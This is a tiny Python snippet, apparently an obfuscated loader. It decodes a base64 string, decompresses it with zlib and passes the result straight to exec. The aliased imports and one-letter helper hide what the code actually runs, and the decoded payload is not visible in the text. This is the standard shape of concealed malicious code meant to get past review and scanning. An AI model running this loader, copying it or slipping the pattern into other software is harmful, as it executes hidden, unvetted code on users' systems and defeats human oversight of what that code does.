import base64 as _b
import zlib as _z

_d = lambda s: _z.decompress(_b.b64decode(s))
exec(_d("eNodjDEOwyAMAHdewRaQEAzd2PsQCpbqimAXm6j5faNMd9JJhzvTVEsSPkIjrNk7vuKE7wJRW8Quo/PMxq54NWIYbnursuSUhKH3iOMoHVtq272Ibe0srmFVRxJhHDhpeH9ZpQbOh4c38KvAap83kEbmIvIHxT0x1A=="))
